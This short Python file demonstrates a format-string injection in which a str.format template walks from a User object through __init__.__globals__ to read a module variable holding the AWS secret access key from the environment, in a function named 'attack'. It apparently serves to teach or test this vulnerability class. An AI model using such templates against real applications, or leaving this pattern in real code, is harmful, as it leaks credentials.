"""A template that walks from an object to the module's secrets. Nothing is asked of the kernel."""

import os

SECRET = os.environ["AWS_SECRET_ACCESS_KEY"]


class User:
    def __init__(self):
        self.name = "Ada"


def attack(event):
    return "{user.__init__.__globals__[SECRET]}".format(user=User())
